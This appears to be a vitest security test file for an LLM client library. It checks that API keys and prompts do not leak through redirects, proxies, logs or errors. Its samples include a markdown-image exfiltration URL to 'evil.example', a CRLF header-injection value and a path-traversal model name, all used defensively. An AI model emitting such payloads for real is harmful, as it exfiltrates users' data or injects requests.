import { inspect } from "node:util";

import { describe, expect, onTestFinished, test } from "vitest";

import { createClient } from "../../src/client/client.ts";
import type { InhouseError } from "../../src/core/error.ts";
import { safeMarkdown } from "../../src/core/safe-markdown.ts";
import { createTransport } from "../../src/http/undici-transport.ts";
import { failureOf, loopback, rawServer, thrownBy } from "../support/loopback.ts";
import { runChild } from "../support/run-child.ts";
import { chatReply, chatStream, reply } from "../support/wire.ts";
import { clientOf } from "./client-of.ts";
import { dialects, modelServer } from "./dialects.ts";
import { whole } from "./fault.ts";

/** Everything that somebody might print or log of a value. */
const shown = (value: unknown): string =>
  [inspect(value, { depth: null, showHidden: true, getters: true }), JSON.stringify(value), String(value)].join(" ");

const key = "sk-secret-7f3a";

test("row 38, the prompt and the key reach no redirect's target", async () => {
  const target = await loopback((arrived) => whole(arrived, chatStream("stolen")));
  const server = await loopback(({ socket }) => socket.write(reply("", 307, { location: target.origin })));
  expect((await failureOf(clientOf(server.origin).chat({ messages: "secret" }))).code).toBe("redirect");
  expect(target.connections()).toBe(0);
});

test("row 109, proxies that the environment names get nothing, whatever Node is told to do with them", async () => {
  const proxy = await rawServer((socket) => socket.destroy());
  const server = await loopback(({ socket }) => socket.write(reply(chatReply("direct"))));
  const names = ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"];
  const env = {
    ...Object.fromEntries(names.map((name) => [name, proxy.origin])),
    NODE_USE_ENV_PROXY: "1",
    NO_PROXY: "",
  };
  const printed = await runChild<{ text: string }>("test/fault/egress-child.ts", [server.origin], { env });
  expect(printed.text).toBe("direct");
  expect(proxy.connections()).toBe(0);
});

test("row 109, a global dispatcher of another library gets nothing", async () => {
  const symbol = Symbol.for("undici.globalDispatcher.1");
  const before: unknown = Reflect.get(globalThis, symbol);
  let asked = 0;
  Reflect.set(globalThis, symbol, { dispatch: () => (asked += 1) });
  onTestFinished(() => void Reflect.set(globalThis, symbol, before));
  const server = await loopback(({ socket }) => socket.write(reply(chatReply("direct"))));
  expect((await clientOf(server.origin).chat({ messages: "Hi" })).text).toBe("direct");
  expect(asked).toBe(0);
});

test("row 110, an address in a message is not fetched", async () => {
  const target = await rawServer((socket) => socket.destroy());
  const server = await loopback(({ socket }) => socket.write(reply(chatReply(`![](${target.origin}/x.png)`))));
  const { text } = await clientOf(server.origin).chat({ messages: `See ${target.origin}/y.png` });
  expect(text).toContain(target.origin);
  expect(target.connections()).toBe(0);
});

test("row 91, an image in an answer is fetched neither here nor, once it was made safe, by who shows it", async () => {
  const server = await loopback(({ socket }) => socket.write(reply(chatReply("![](https://evil.example/?q=secret)"))));
  const { text } = await clientOf(server.origin).chat({ messages: "Hi" });
  expect(safeMarkdown(text)).toBe("!&#91;&#93;(https://evil.example/?q=secret)");
});

describe.each(Object.entries(dialects))(
  "row 112, %s shows no key",
  (name, { connect, whole: wholeAnswer, said, done }) => {
    test("in itself, its client, its results, its errors and what caused them", async () => {
      const server = await modelServer(({ socket, turn }) => {
        if (turn === 1) return socket.write(wholeAnswer(said("well"), done()));
        if (turn === 2) return socket.write(reply(JSON.stringify({ error: { message: `no: ${key}` } }), 401));
        if (turn === 3) return socket.write(reply(`{"${key}`));
        return socket.destroy();
      });
      const provider = connect({ baseURL: server.origin, apiKey: key });
      const client = createClient({ provider, model: "m", maxRetries: 0 });
      onTestFinished(() => client.close());
      const ask = () => client.stream({ messages: "a secret prompt" }).result;
      const result = await ask();
      const failures: InhouseError[] = [];
      for (const _ of [2, 3, 4]) failures.push(await failureOf(ask()));
      expect(failures.map(({ code }) => code)).toEqual(["auth", "protocol", "reset"]);
      expect(server.requests.some(({ head }) => head.includes(key))).toBe(true); // it was sent
      for (const value of [provider, client, result, ...failures]) {
        expect(shown(value), name).not.toContain(key);
        expect(shown(value), name).not.toContain("a secret prompt");
      }
    });

    test("where an address holds a password, or a key a line feed: neither is in the error, and nothing is sent", () => {
      const errors = [
        thrownBy(() => connect({ baseURL: `http://user:${key}@127.0.0.1:1` })),
        thrownBy(() => connect({ baseURL: `http://127.0.0.1:1/?key=${key}` })),
        thrownBy(() => connect({ baseURL: "http://127.0.0.1:1", apiKey: `${key}\r\nx: y` })), // row 113
      ];
      for (const error of errors) {
        expect(error.code).toBe("invalid-request");
        expect(shown(error)).not.toContain(key);
      }
    });
  },
);

test("row 113, a header with a line feed is refused before anything is sent", () => {
  const { connect } = dialects.llamacpp;
  const headers = { "x-team": "a\r\nx-admin: yes" };
  expect(thrownBy(() => connect({ baseURL: "http://127.0.0.1:1", headers })).code).toBe("invalid-request");
});

test.each(Object.entries(dialects))("row 113, %s: a model's name never becomes a path", async (_, { connect }) => {
  const server = await modelServer(({ socket }) => socket.write(reply("{}", 404)));
  const client = createClient({
    provider: connect({ baseURL: server.origin }),
    model: "../../admin?x=#",
    maxRetries: 0,
  });
  onTestFinished(() => client.close());
  await failureOf(client.chat({ messages: "Hi" }));
  await client.describe().catch(() => undefined);
  expect(server.requests.length).toBeGreaterThan(0);
  for (const { head } of server.requests) expect(head.split("\r\n")[0]).not.toMatch(/\.\.\/|admin\?x/);
});

test("a transport shows neither the key of its certificate nor the words that open it", () => {
  const transport = createTransport({ tls: { passphrase: key } });
  expect(shown(transport)).not.toContain(key);
});
